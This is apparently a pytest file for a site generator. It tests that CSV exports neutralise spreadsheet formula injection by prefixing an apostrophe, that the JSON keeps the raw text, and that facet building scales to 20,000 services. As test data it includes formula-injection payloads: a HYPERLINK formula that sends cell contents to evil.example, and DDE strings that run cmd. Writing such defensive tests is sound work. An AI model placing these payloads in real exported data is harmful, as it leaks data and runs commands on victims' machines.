"""What the built site writes for hostile content, read as its readers read it, without
MkDocs: the open data in a spreadsheet (no cell runs as a formula), and the index's
filters for a case study with a huge list (built in time that grows as n log n, not n²).
(The search index of hostile content: tests/browser/test_search_index.py.)"""

from __future__ import annotations

import csv
import io
import json
import time

from bs4 import BeautifulSoup
from conftest import BRIEFING, BUILD_DATE, make_content, make_study

from briefgen.site.opendata import case_studies_csv, case_studies_json, outcomes_csv
from briefgen.site.plan import plan_pages
from briefgen.site.planned import PlanOptions
from briefgen.site.relations import facets, related_case_studies
from briefgen.site.render import make_environment, render_page
from briefgen.site.routes import Routes

ROUTES = Routes(BRIEFING.id)

# Each starts as a spreadsheet formula would: OWASP's list (=, +, -, @, tab, CR).
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A2,"x")',
    "region": "+cmd|' /C calc'!A0",
    "speaker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "speaker_role": "-2+3+cmd|' /C calc'!A0",
    "organisations": "\t=1+1",
    "services": "\r=1+1",
}

OUTCOMES = [
    {"metric": "=1+1", "value": -12.5, "unit": "@A1", "scope": "+A1", "status": "reported",
     "source": "report"},
    {"metric": "-A1", "value": 3, "status": "planned", "source": "report"},
]  # fmt: skip


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def formula_study():  # type: ignore[no-untyped-def]
    """A case study with a formula in every free-text field the CSVs carry. Tab and CR
    go in unvalidated, so that the test holds whatever the schema comes to refuse."""
    study = make_study(
        "formulas",
        FORMULAS["title"],
        region=FORMULAS["region"],
        speaker={"name": FORMULAS["speaker"], "role": FORMULAS["speaker_role"]},
        sources=[{"id": "report", "title": "=1+1", "date": "2024-01-01"}],
        outcomes=OUTCOMES,
    )
    organisations = [study.organisations[0].model_copy(update={"name": FORMULAS["organisations"]})]
    return study.model_copy(
        update={"organisations": organisations, "services": [FORMULAS["services"], "Parks"]}
    )


def test_no_cell_of_the_case_studies_csv_starts_a_formula_and_the_json_keeps_the_text() -> None:
    study = formula_study()
    content = make_content(study)
    [row] = rows(case_studies_csv(content, ROUTES))
    for column, text in FORMULAS.items():
        # A spreadsheet shows the cell as text: the apostrophe, then the text as written.
        expected = "'" + text + ("; Parks" if column == "services" else "")
        assert row[column] == expected, column
    assert row["outcomes"] == "2"  # a count is a number, as it was
    [published] = json.loads(case_studies_json(content))
    assert published["title"] == FORMULAS["title"]
    assert published["region"] == FORMULAS["region"]
    assert published["services"] == [FORMULAS["services"], "Parks"]
    assert published["organisations"][0]["name"] == FORMULAS["organisations"]


def test_no_cell_of_the_outcomes_csv_starts_a_formula_but_a_negative_value_stays_a_number() -> None:
    content = make_content(formula_study())
    first, second = rows(outcomes_csv(content))
    assert (first["metric"], first["unit"], first["scope"]) == ("'=1+1", "'@A1", "'+A1")
    assert (first["source_title"], second["metric"]) == ("'=1+1", "'-A1")
    # The value column holds numbers only: a negative one is a number, not a formula.
    assert (first["value"], second["value"]) == ("-12.5", "3")
    [published] = json.loads(case_studies_json(content))
    assert [o["metric"] for o in published["outcomes"]] == ["=1+1", "-A1"]


def test_the_data_page_says_how_a_csv_cell_that_looks_like_a_formula_is_written() -> None:
    pages = plan_pages(make_content(make_study("a", "A")), ROUTES, PlanOptions(today=BUILD_DATE))
    (page,) = [p for p in pages if p.template == "data.html.j2"]
    html = render_page(make_environment(), page, ROUTES).html
    text = " ".join(BeautifulSoup(html, "lxml").get_text().split())
    assert "starts with =, +, -, @, a tab or a carriage return" in text
    assert "apostrophe" in text and "JSON" in text


SERVICES = 20_000


def test_the_filters_of_a_case_study_with_twenty_thousand_services_are_built_at_once() -> None:
    """~97,000 services took 157 s: each service's label was looked up in the whole list."""
    services = [f"Service {n:05d}" for n in range(SERVICES)]
    # Built past the schema's checks, whatever cap it sets: this tests the algorithm.
    big = make_study("big", "Big").model_copy(update={"services": [*services, "SERVICE 00000"]})
    other = make_study("other", "Other", services=["service 00001", "Parks"])
    content = make_content(big, other)
    started = time.process_time()
    found = {facet.name: facet for facet in facets(content)}
    related = related_case_studies(content)
    elapsed = time.process_time() - started
    options = found["service"].options
    assert len(options) == SERVICES + 1
    # Labelled as first written, counted once a case study whatever the capitals.
    assert [(o.value, o.label, o.count) for o in options[:2]] == [
        ("service 00001", "Service 00001", 2),
        ("parks", "Parks", 1),
    ]
    assert ("service 00000", "Service 00000", 1) in [(o.value, o.label, o.count) for o in options]
    assert [r.services for r in related["other"]] == [("service 00001",)]
    assert elapsed < 1, f"{elapsed:.1f} s"
